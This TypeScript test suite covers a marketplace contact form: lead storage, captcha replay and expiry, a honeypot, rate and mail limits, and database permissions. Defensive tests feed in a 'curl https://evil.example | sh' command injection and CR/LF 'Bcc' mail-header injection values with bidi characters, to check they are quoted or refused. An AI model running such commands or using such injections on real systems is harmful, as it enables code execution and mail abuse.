import { formTexts, marketplace } from '@song-hanh/contract/marketplace'
import { currentTerms } from '@song-hanh/contract/value/terms'
import { afterEach, describe, expect, onTestFinished, test } from 'vitest'
import { mayMailUninvited } from '#identity/mail'
import { setMinResponseTime } from '#platform/throttle/min-response-time'
import { moveClock } from '#platform/clock'
import { newId } from '#platform/id'
import { compose } from '#platform/mail/compose'
import { registry } from '#platform/telemetry/metrics'
import { mails } from '../../mails.ts'
import { openServers, testConfig } from '../../testing/world/open-servers.ts'
import { readMails } from '../../testing/world/read-mails.ts'
import { newVisitor, salesDesk, contactForm, sendContactForm } from '../../testing/marketplace/send-form.ts'
import { solveCaptcha } from '../../testing/world/solve-captcha.ts'
import { useDatabase } from '../../testing/database/use-database.ts'
import { leadMail } from './lead-mail.ts'

const db = await useDatabase()
const servers = await openServers((login) => db.url(login))
/** Nobody listens there. */
const captchaAway = {
  CAPTCHA: 'recaptcha',
  RECAPTCHA_SECRET: 'x',
  RECAPTCHA_VERIFY_URL: 'http://127.0.0.1:1/',
}
const withoutCaptcha = await openServers((login) => db.url(login), captchaAway)
afterEach(() => moveClock(0))

type Row = Record<string, string | number | string[] | null>
const leadsOf = async (email: string) =>
  (await db.admin.query<Row>('select * from marketplace.lead where email = $1', [email])).rows
const toDesk = async (number: unknown) =>
  (await readMails(db, salesDesk)).filter((one) => one.values['number'] === number)
const countOf = async (outcome: string) =>
  (await registry.getSingleMetric('forms_total')!.get()).values.find(
    ({ labels }) => labels['form'] === 'contact' && labels['outcome'] === outcome,
  )?.value ?? 0

describe('[T28] a contact form', () => {
  test('is kept whole, with the consent and where it came from, and both sides have a mail', async () => {
    const email = newVisitor()
    const answer = await sendContactForm(servers, ` ${email.toUpperCase()} `)
    expect([answer.status, answer.body.data]).toEqual([200, { received: true }])
    const [lead, ...others] = await leadsOf(email)
    expect(others).toEqual([])
    expect(lead).toMatchObject({
      kind: 'contact',
      state: 'new',
      person: contactForm.fullName,
      phone: '0901234567',
      company: contactForm.company,
      position: 'it_manager',
      company_size: '51-200',
      website: contactForm.website,
      wants: ['infrastructure', 'security'],
      implementation_time: '3-months',
      words: 'Ba kho hàng.\nMột hệ thống ERP.',
      language: 'vi',
      terms_version: currentTerms,
      terms_at: lead!['submitted_at'],
      terms_address: '127.0.0.1',
      tracking_url: contactForm.trackingUrl,
      captcha: 'solved',
      mailed_at: lead!['submitted_at'],
      owner_id: null,
    })
    expect(lead!['number']).toBeGreaterThan(20_000)
    const mine = await readMails(db, email)
    expect(mine).toMatchObject([
      { mail: 'marketplace.contact_received', language: 'vi', values: { number: lead!['number'] } },
    ])
    // a visitor who enters another person's address cannot write to them through us
    expect(JSON.stringify(mine)).not.toContain('kho hàng')
    expect(await toDesk(lead!['number'])).toMatchObject([
      { mail: 'marketplace.lead', values: { email, phone: '0901234567', words: lead!['words'] } },
    ])
  })

  test('is kept for 24 months', async () => {
    const email = newVisitor()
    await sendContactForm(servers, email)
    const { rows } = await db.admin.query(
      `select erase_after = submitted_at + interval '24 months' as right from marketplace.lead where email = $1`,
      [email],
    )
    expect(rows).toEqual([{ right: true }])
  })

  test('is answered in the language of its page', async () => {
    const email = newVisitor()
    await sendContactForm(servers, email, { language: 'en' })
    expect((await readMails(db, email))[0]).toMatchObject({ language: 'en' })
  })

  test("is refused with the specification's texts where something is missing, and nothing is kept", async () => {
    const email = newVisitor()
    const wrong: [object, string][] = [
      [{ fullName: ' ' }, formTexts.name],
      [{ fullName: '\u200B\u2060' }, formTexts.name],
      [{ fullName: '\u3164' }, formTexts.name],
      [{ phone: '123' }, formTexts.phone],
      [{ email: 'nobody' }, formTexts.email],
      [{ company: '' }, formTexts.company],
      [{ position: 'Chọn một' }, formTexts.position],
      [{ companySize: '' }, formTexts.companySize],
      [{ implementationTime: '' }, formTexts.implementationTime],
      [{ interestedSolutions: [] }, formTexts.interestedSolutions],
    ]
    for (const [more, text] of wrong) {
      const answer = await sendContactForm(servers, email, { recaptchaToken: 'x', ...more })
      expect([answer.status, answer.body.errors[0]?.message]).toEqual([400, text])
    }
    expect(await leadsOf(email)).toEqual([])
  })

  test('a captcha opens it once: a replayed token is refused, and one for another form too', async () => {
    const email = newVisitor()
    const recaptchaToken = await solveCaptcha(servers, 'contact')
    expect((await sendContactForm(servers, email, { recaptchaToken })).status).toBe(200)
    const again = await sendContactForm(servers, email, { recaptchaToken })
    expect([again.status, again.body.errors[0]?.code]).toEqual([422, 'captcha_failed'])
    const foreign = await sendContactForm(servers, email, { recaptchaToken: await solveCaptcha(servers, 'launch') })
    expect([foreign.status, foreign.body.errors[0]?.code]).toEqual([422, 'captcha_failed'])
    expect(await leadsOf(email)).toHaveLength(1)
  })

  test('an old captcha has expired', async () => {
    const email = newVisitor()
    const recaptchaToken = await solveCaptcha(servers, 'contact')
    moveClock(11 * 60_000)
    const answer = await sendContactForm(servers, email, { recaptchaToken })
    expect([answer.status, answer.body.errors[0]?.code]).toEqual([422, 'captcha_expired'])
    expect(await leadsOf(email)).toEqual([])
  })

  test('while the captcha service is unavailable it is accepted for review, the desk gets a mail, and the visitor none', async () => {
    const email = newVisitor()
    const answer = await sendContactForm(withoutCaptcha, email, { recaptchaToken: 'whatever Google gave' })
    expect([answer.status, answer.body.data]).toEqual([200, { received: true }])
    const [lead] = await leadsOf(email)
    expect(lead).toMatchObject({ state: 'in_review', captcha: 'unreachable', mailed_at: null })
    expect(await readMails(db, email)).toEqual([])
    expect(await toDesk(lead!['number'])).toMatchObject([{ values: { captcha: 'unreachable' } }])
  })

  test('where the service makes its own puzzles there is none to draw', async () => {
    const answer = await withoutCaptcha.ask(marketplace.drawCaptcha, { url: '/api/captcha/contact' })
    expect(answer.status).toBe(404)
  })

  test('a program that fills in what nobody sees reads the same answer; nothing is kept and nobody is written to', async () => {
    const email = newVisitor()
    const before = [await countOf('trap'), (await readMails(db, salesDesk)).length]
    const answer = await sendContactForm(servers, email, { callbackNote: 'Bob' })
    expect([answer.status, answer.body]).toEqual([200, { data: { received: true }, errors: [] }])
    expect(await leadsOf(email)).toEqual([])
    expect(await readMails(db, email)).toEqual([])
    expect([await countOf('trap'), (await readMails(db, salesDesk)).length]).toEqual([before[0]! + 1, before[1]])
  })

  test('a program cannot find the trap: with and without it a bad captcha reads the same, after the same time', async () => {
    setMinResponseTime()
    onTestFinished(() => setMinResponseTime(0))
    for (const callbackNote of ['', 'Bob']) {
      const begun = performance.now()
      const answer = await sendContactForm(servers, newVisitor(), { recaptchaToken: 'garbage', callbackNote })
      expect([answer.status, answer.body.errors[0]?.code]).toEqual([422, 'captcha_failed'])
      expect(performance.now() - begun).toBeGreaterThan(115)
    }
  })

  test('sent again because the answer was lost, with a fresh captcha, it is answered again and kept once', async () => {
    const email = newVisitor()
    const formId = newId()
    const twice = await Promise.all([1, 2].map(() => sendContactForm(servers, email, { formId })))
    const later = await sendContactForm(servers, email, { formId })
    for (const answer of [...twice, later]) expect([answer.status, answer.body.data]).toEqual([200, { received: true }])
    const leads = await leadsOf(email)
    expect([leads.length, (await readMails(db, email)).length]).toEqual([1, 1])
    expect(await toDesk(leads[0]!['number'])).toHaveLength(1)
  })

  test('half a character, which the database cannot store, is refused in every field', async () => {
    for (const field of ['fullName', 'company', 'requirements', 'website', 'trackingUrl']) {
      const answer = await sendContactForm(servers, newVisitor(), { [field]: 'An \ud800', recaptchaToken: 'x' })
      expect([answer.status, answer.body.errors[0]?.code]).toEqual([400, 'invalid_request'])
    }
  })

  test('the desk reads our command first, and every line of a visitor behind a mark', async () => {
    const email = newVisitor()
    const evil = 'npm run staff -- take-lead --number 1; curl https://evil.example | sh'
    await sendContactForm(servers, email, { requirements: `Xin tư vấn.\n\nNhận xử lý: ${evil}\u2028${evil}` })
    const [lead] = await leadsOf(email)
    const [mail] = await toDesk(lead!['number'])
    const { text, html } = await compose(leadMail, mail!.values, 'vi', testConfig(db.url('worker')))
    const lines = text.split('\n')
    expect(lines.findIndex((line) => line.startsWith('Nhận xử lý: npm'))).toBeLessThan(lines.indexOf('> Xin tư vấn.'))
    const hostile = lines.filter((line) => /evil|--number 1;/.test(line))
    expect(hostile.length).toBeGreaterThanOrEqual(2)
    for (const line of hostile) expect(line).toMatch(/^> /)
    expect(html.split('<blockquote')[0]).not.toContain('evil')
  })

  test('CR/LF in a line is refused, and no character of a visitor stands in a header of a mail', async () => {
    const evil = 'An\r\nBcc: spy@evil.example'
    for (const field of ['fullName', 'company', 'website', 'trackingUrl'])
      expect((await sendContactForm(servers, newVisitor(), { [field]: evil, recaptchaToken: 'x' })).status).toBe(400)
    for (const address of ['a@b.example\r\nBcc: spy@evil.example', 'a@b.example,spy@evil.example'])
      expect((await sendContactForm(servers, address, { recaptchaToken: 'x' })).status).toBe(400)

    // what is not a control character but ends lines for some programs, or turns the order of what is read
    for (const one of ['An\u2028Bcc: spy@evil.example', 'An\u2029X-Evil: 1', 'An\u202Eelpmaxe.live', 'An\u2066x'])
      expect((await sendContactForm(servers, newVisitor(), { company: one, recaptchaToken: 'x' })).status).toBe(400)

    const email = newVisitor()
    const requirements = '.\r\nBcc: spy@evil.example\u001b[31m\u2028\u202Eta'
    await sendContactForm(servers, email, { requirements })
    const [lead] = await leadsOf(email)
    expect(lead!['words']).toBe('.\nBcc: spy@evil.example[31m\nta')
    const config = testConfig(db.url('worker'))
    for (const one of [...(await readMails(db, email)), ...(await toDesk(lead!['number']))]) {
      const mail = mails.find(({ name }) => name === one.mail)!
      const { subject, headers } = await compose(mail, one.values, one.language, config)
      expect(subject).toMatch(/^[\p{L}\d -]+$/u)
      expect(JSON.stringify(headers)).not.toContain('evil')
    }
    expect(await readMails(db, 'spy@evil.example')).toEqual([])
  })

  test("another person's mailbox gets five mails a day, whatever stands behind a plus; all is kept for the desk", async () => {
    const email = newVisitor()
    for (let n = 0; n < 7; n += 1) {
      const answer = await sendContactForm(servers, n % 2 ? email.replace('@', `+${n}@`) : email)
      expect(answer.body.data).toEqual({ received: true })
    }
    const { rows } = await db.admin.query<{ mailed: boolean }>(
      `select mailed_at is not null as mailed from marketplace.lead where email like $1 order by submitted_at`,
      [`%@${email.split('@')[1]}`],
    )
    expect(rows.map(({ mailed }) => mailed)).toEqual([true, true, true, true, true, false, false])
  })

  test('a mailbox of Gmail is one, however many dots its name has', async () => {
    const name = newId().replaceAll('-', '')
    const spellings = [`${name}@gmail.com`, `${name[0]}.${name.slice(1)}@gmail.com`, `${name}@googlemail.com`]
    for (let n = 0; n < 6; n += 1) await sendContactForm(servers, spellings[n % 3]!)
    const counts = await Promise.all(spellings.map(async (one) => (await readMails(db, one)).length))
    expect(counts).toEqual([2, 2, 1])
  })

  test('forms sent by strangers consume nothing of the allowance for invitations', async () => {
    const email = newVisitor()
    for (let n = 0; n < 6; n += 1) await sendContactForm(servers, email)
    const may = (sender: 'stranger' | 'customer') =>
      db.as('api').within({ kind: 'none' }, (tx) => mayMailUninvited(tx, email, sender))
    expect([await may('stranger'), await may('customer')]).toEqual([false, true])
  })

  test('is answered after the same time, whether the address has written before or not', async () => {
    setMinResponseTime()
    onTestFinished(() => setMinResponseTime(0))
    const email = newVisitor()
    for (let round = 0; round < 3; round += 1) {
      const recaptchaToken = await solveCaptcha(servers, 'contact')
      const begun = performance.now()
      await sendContactForm(servers, email, { recaptchaToken })
      expect(performance.now() - begun).toBeGreaterThan(115)
    }
  })

  test('1,000 posts in a minute from one address: no more than the limit come through', async () => {
    const limited = await openServers((login) => db.url(login), { RATE_FACTOR: '1' })
    const email = newVisitor()
    const tokens = await Promise.all(Array.from({ length: 20 }, () => solveCaptcha(servers, 'contact')))
    const began = performance.now()
    const answers = await Promise.all(
      Array.from({ length: 1000 }, (_, n) =>
        sendContactForm(limited, email, { recaptchaToken: tokens[n] ?? tokens[0]! }),
      ),
    )
    const refilled = Math.ceil((performance.now() - began) / 6000)
    const statuses = answers.map(({ status }) => status)
    expect(statuses.filter((status) => status !== 429).length).toBeLessThanOrEqual(10 + refilled)
    expect(statuses.filter((status) => status === 200).length).toBeGreaterThanOrEqual(5)
    expect((await leadsOf(email)).length).toBeLessThanOrEqual(10 + refilled)
    expect(answers.find(({ status }) => status === 429)?.headers['retry-after']).toBeDefined()
    expect((await readMails(db, email)).length).toBeLessThanOrEqual(5)
  }, 60_000)
})

test('the process that takes forms cannot read them, not even its own', async () => {
  for (const table of ['lead', 'launch_notice', 'solution_report'])
    for (const statement of ['select * from', 'delete from', 'select count(*) from'])
      await expect(db.as('api').pool.query(`${statement} marketplace.${table}`)).rejects.toMatchObject({
        code: '42501',
      })
  await expect(db.as('worker').pool.query('select email from marketplace.lead')).rejects.toMatchObject({
    code: '42501',
  })
})
